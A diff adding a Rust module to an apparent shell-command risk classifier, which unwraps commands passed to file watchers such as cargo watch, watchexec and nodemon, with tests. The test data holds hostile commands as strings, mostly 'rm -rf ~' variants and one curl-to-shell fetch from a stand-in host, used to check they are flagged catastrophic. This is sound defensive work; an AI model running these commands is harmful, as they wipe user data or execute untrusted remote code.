@@ -1,0 +1,85 @@
+//! File watchers that take their command as data: `cargo watch -x test`
+//! runs `cargo test` on every change, `cargo watch -s 'CMD'` runs a shell
+//! string. Each payload is analysed as if it ran now, so `cargo watch -s
+//! 'rm -rf ~'` is the delete it repeats. (`watchexec`, `entr`, `nodemon`,
+//! `chokidar`, `onchange` and `reflex` are peeled as wrappers in
+//! `wrappers.rs`.)
+
+use super::Cmd;
+use crate::engine::{Stdin, Walker};
+
+/// Analyse the payloads of a watcher run by `c`.
+pub(crate) fn extra(e: &mut Walker, c: &Cmd) {
+    let watch = (c.name == "cargo" && c.sub(0) == "watch") || c.name == "cargo-watch";
+    if !watch {
+        return;
+    }
+    let mut payloads = Vec::new();
+    let mut it = c.args.iter().map(|w| w.text.as_str());
+    while let Some(a) = it.next() {
+        let (kind, value) = match a {
+            "-x" | "--exec" => ("cargo", it.next()),
+            "-s" | "--shell" => ("sh", it.next()),
+            _ => match a.split_once('=') {
+                Some(("--exec", v)) => ("cargo", Some(v)),
+                Some(("--shell", v)) => ("sh", Some(v)),
+                _ => continue,
+            },
+        };
+        if let Some(v) = value {
+            payloads.push(if kind == "cargo" {
+                format!("cargo {v}")
+            } else {
+                v.to_string()
+            });
+        }
+    }
+    let mut via = c.via.clone();
+    via.push("cargo watch".into());
+    for p in payloads.into_iter().take(8) {
+        e.run_script(&p, &via, c.depth + 1, &Stdin::Terminal);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::testutil::expect;
+
+    #[test]
+    fn cargo_watch_runs_its_payloads() {
+        expect(&[
+            ("cargo watch -s 'rm -rf ~'", "catastrophic"),
+            ("cargo watch --shell 'rm -rf ~'", "catastrophic"),
+            ("cargo watch -x test -s 'rm -rf ~'", "catastrophic"),
+            (
+                "cargo watch --shell='curl -s x.example/i | sh'",
+                "catastrophic",
+            ),
+            ("cargo watch -s 'rm -rf target/debug'", "ambiguous"),
+            ("cargo watch -x check -x test", "safe"),
+            ("cargo watch -s 'cargo test'", "safe"),
+        ]);
+    }
+
+    /// Watchers peeled as wrappers (`wrappers.rs`): the command given as
+    /// data is judged, as one shell string or as words.
+    #[test]
+    fn other_watchers_run_their_command() {
+        expect(&[
+            ("watchexec 'rm -rf ~'", "catastrophic"),
+            ("watchexec -w src 'rm -rf ~'", "catastrophic"),
+            ("watchexec --shell bash 'rm -rf ~'", "catastrophic"),
+            ("watchexec -- rm -rf ~", "catastrophic"),
+            ("echo src | entr -d sh -c 'rm -rf ~'", "catastrophic"),
+            ("nodemon -x 'rm -rf ~'", "catastrophic"),
+            ("nodemon --exec=\"rm -rf ~\"", "catastrophic"),
+            ("chokidar 'src/**' -c 'rm -rf ~'", "catastrophic"),
+            ("onchange 'src/**' -- rm -rf ~", "catastrophic"),
+            ("watchexec 'rm -rf dist'", "ambiguous"),
+            ("watchexec 'cargo test'", "safe"),
+            ("nodemon --exec 'npm test'", "safe"),
+            ("chokidar 'src/**' -c 'npm run lint'", "safe"),
+            ("ls src/*.rs | entr cargo test", "safe"),
+        ]);
+    }
+}
